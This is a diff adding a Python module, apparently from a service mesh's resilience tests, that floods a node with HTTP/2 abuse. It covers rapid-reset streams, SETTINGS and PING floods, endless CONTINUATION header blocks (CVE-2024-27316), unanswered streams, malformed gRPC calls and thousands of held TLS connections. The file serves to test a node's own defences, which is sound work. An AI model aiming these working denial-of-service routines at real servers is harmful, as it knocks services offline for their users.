@@ -1,0 +1,174 @@
+"""What one member of a mesh can send to a node that no honest one sends, over HTTP/2 frames.
+
+Each attack runs until its time is over, on new connections whenever the node closes the old ones,
+and returns how much it sent. They run in a process of their own: see `abuse.py`.
+"""
+
+from __future__ import annotations
+
+import select
+import struct
+import time
+from collections.abc import Callable
+from contextlib import suppress
+
+from aegis_certs import TLSConfig
+from frames import (
+    END_HEADERS,
+    HEADERS,
+    PING,
+    RST_STREAM,
+    SETTINGS,
+    Connection,
+    client_context,
+    frame,
+    request_headers,
+)
+from workload import path
+
+CANCEL = struct.pack(">I", 8)
+BATCH = 50
+"""Frames that are sent together."""
+
+CONNECTIONS = 2_000
+RATE = 1_000
+"""Streams a second of the attack by open streams."""
+
+PING_METHOD = "/aegis.MeshService/Ping"
+
+
+class Attack:
+    """One attacker at one node.
+
+    Args:
+        tls: The attacker's identity.
+        address: Where the node listens.
+        node_id: The node.
+    """
+
+    def __init__(self, tls: TLSConfig, address: str, node_id: str) -> None:
+        self._context = client_context(tls)
+        self._address = address
+        self._node_id = node_id
+        self._held: list[Connection] = []
+
+    def run(self, kind: str, seconds: float) -> int:
+        """Runs one of `KINDS`; returns how many frames, calls or connections it sent."""
+        until = time.monotonic() + seconds
+        return int(KINDS[kind](self, until))
+
+    def release(self) -> None:
+        """Closes all that it holds."""
+        for connection in self._held:
+            connection.close()
+        self._held.clear()
+
+    def _connect(self) -> Connection:
+        return Connection(self._address, self._node_id, self._context, timeout=5.0)
+
+    def _flood(self, until: float, batch: Callable[[Connection], bytes], rate: float) -> int:
+        """Sends batches of frames, at most `rate` frames a second, and reads what is answered."""
+        sent = 0
+        began = time.monotonic()
+        while time.monotonic() < until:
+            try:
+                connection = self._connect()
+                self._held.append(connection)
+                while time.monotonic() < until:
+                    connection.send(batch(connection))
+                    sent += BATCH
+                    while select.select([connection.socket], [], [], 0)[0]:
+                        for _ in connection.receive():
+                            pass
+                    ahead = sent / rate - (time.monotonic() - began)
+                    if ahead > 0:
+                        time.sleep(ahead)
+            except OSError:
+                time.sleep(0.05)  # the node has closed the connection
+        return sent
+
+    def open_streams(self, until: float) -> int:
+        block = request_headers(path("Echo"), self._node_id)
+
+        def batch(connection: Connection) -> bytes:
+            return b"".join(
+                frame(HEADERS, connection.next_stream(), block, END_HEADERS) for _ in range(BATCH)
+            )
+
+        return self._flood(until, batch, RATE)
+
+    def reset_streams(self, until: float) -> int:
+        block = request_headers(path("Echo"), self._node_id)
+
+        def batch(connection: Connection) -> bytes:
+            frames = []
+            for _ in range(BATCH):
+                stream = connection.next_stream()
+                frames.append(frame(HEADERS, stream, block, END_HEADERS))
+                frames.append(frame(RST_STREAM, stream, CANCEL))
+            return b"".join(frames)
+
+        return self._flood(until, batch, 1e9)
+
+    def settings(self, until: float) -> int:
+        one = frame(SETTINGS, 0, struct.pack(">HI", 4, 65_535))
+        return self._flood(until, lambda _: one * BATCH, 1e9)
+
+    def pings(self, until: float) -> int:
+        return self._flood(until, lambda _: frame(PING, 0, b"12345678") * BATCH, 1e9)
+
+    def endless_headers(self, until: float) -> int:
+        """Sends header blocks that do not end (CONTINUATION frames, CVE-2024-27316)."""
+        piece = b"\x00\x01x" + b"\x7e" + b"y" * 126
+
+        def batch(connection: Connection) -> bytes:
+            stream = connection.next_stream()
+            more = [frame(9, stream, piece * 100) for _ in range(BATCH)]
+            return frame(HEADERS, stream, request_headers(path("Echo"), self._node_id)) + b"".join(
+                more
+            )
+
+        return self._flood(until, batch, 1e9)
+
+    def malformed(self, until: float) -> int:
+        """Calls the mesh's own service with one byte that is no message."""
+        sent = 0
+        while time.monotonic() < until:
+            with suppress(OSError), self._connect() as connection:
+                while time.monotonic() < until:
+                    for _ in range(BATCH):
+                        connection.call(PING_METHOD, b"\xff")
+                    sent += BATCH
+                    ended = 0
+                    while ended < BATCH:
+                        ended += sum(got.ends_stream for got in connection.receive())
+        return sent
+
+    def connections(self, until: float) -> int:
+        """Opens TLS connections, and holds them."""
+        with suppress(OSError):
+            while time.monotonic() < until and len(self._held) < CONNECTIONS:
+                self._held.append(self._connect())
+        opened = len(self._held)
+        time.sleep(max(0.0, until - time.monotonic()))
+        return opened
+
+
+KINDS: dict[str, Callable[[Attack, float], int]] = {
+    "streams without a request": Attack.open_streams,
+    "rapid reset": Attack.reset_streams,
+    "SETTINGS": Attack.settings,
+    "PING": Attack.pings,
+    "headers without an end": Attack.endless_headers,
+    "malformed messages": Attack.malformed,
+    "connections": Attack.connections,
+}
+
+
+def raise_limit() -> None:
+    """Lets this process hold many connections."""
+    import resource
+
+    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    with suppress(ValueError):
+        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 65_536), hard))
